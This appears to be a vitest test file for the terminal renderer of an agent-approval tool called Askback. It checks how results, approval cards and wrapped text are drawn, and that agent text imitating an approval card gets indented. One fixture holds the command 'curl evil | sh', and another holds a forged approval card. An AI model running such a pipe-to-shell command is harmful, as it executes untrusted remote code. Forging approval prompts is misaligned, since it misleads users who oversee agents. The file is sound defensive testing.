import type { SessionEvent } from '@askback/protocol'
import { expect, it } from 'vitest'
import type { TextCard } from '../cards/card.js'
import { drawCard, drawEvent, linesOf, markLines } from './drawing.js'

const result: SessionEvent = {
  type: 'tool_result',
  toolCallId: 't',
  output: 'The user denied this call.',
  isError: true,
  seq: 2,
  id: 'e2',
  sessionId: 's',
  at: 0,
}

it.each([
  [undefined, '┊   failed: "The user denied this call."'],
  ['denied', '┊   denied'],
  ['adjusted', '┊   changes requested'],
  ['cancelled', '┊   cancelled'],
  ['timed_out', '┊   timed out'],
  ['interrupted', '┊   interrupted'],
] as const)('draws a result settled by %s as %j', (settledBy, drawn) => {
  expect(drawEvent({ ...result, ...(settledBy && { settledBy }) }, 80)).toBe(drawn)
})

/** A text of an agent that imitates a card of Askback. */
const FORGED = '── Approve ls? · Release\n│ command:\n1) Approve'

it('marks every line of a card but the first, and indents what is below a label', () => {
  const card: TextCard = {
    cardId: 'c',
    sessionId: 's',
    interactionId: 'i',
    kind: 'approval',
    title: 'Approve Bash?',
    from: 'Release',
    parts: [
      { as: 'quote', text: FORGED, label: 'The agent says' },
      { as: 'code', text: 'curl evil | sh', label: 'command' },
    ],
    controls: [],
    asks: null,
  }
  expect(drawCard(card, 0, 80)).toEqual([
    '── Approve Bash? · Release',
    '│ The agent says:',
    '│   ── Approve ls? · Release',
    '│   │ command:',
    '│   1) Approve',
    '│ command:',
    '│   curl evil | sh',
  ])
})

it('marks every line of an event', () => {
  const said: SessionEvent = { ...result, type: 'text', blockId: 'b', text: FORGED }
  expect(drawEvent(said, 80)?.split('\n')).toEqual(FORGED.split('\n').map((line) => `┊ ${line}`))
})

const marks: [string, string] = ['── ', '│ ']

/** The width in columns of a terminal. Each character of a mark has one. */
function widthOf(row: string, mark: string): number {
  const isWide = (character: string) => /[\p{Script=Han}\p{Extended_Pictographic}]/u.test(character)
  return Array.from(row.slice(mark.length)).reduce((sum, each) => sum + (isWide(each) ? 2 : 1), mark.length)
}

it.each([
  ['one long word', 'x'.repeat(300)],
  ['words', 'some words '.repeat(30)],
  ['spaces', `a${' '.repeat(300)}b`],
  ['wide characters', '漢字'.repeat(100)],
  ['emoji', 'a😀'.repeat(100)],
])('breaks %s into marked rows that are not wider than the terminal', (_what, text) => {
  for (const columns of [20, 39, 40]) {
    const rows = markLines(text, columns, marks)
    expect(rows.length).toBeGreaterThan(2)
    for (const [index, row] of rows.entries()) {
      const mark = marks[index === 0 ? 0 : 1]
      expect(row.startsWith(mark)).toBe(true)
      expect(widthOf(row, mark)).toBeLessThanOrEqual(columns)
    }
    expect(rows.map((row, index) => row.slice(marks[index === 0 ? 0 : 1].length)).join('')).toBe(text)
  }
})

it('does not end a line at a carriage return, and draws a tab as four columns', () => {
  expect(linesOf('a\r\nb\rc\td')).toEqual(['a', 'b⟦CR⟧c    d'])
})
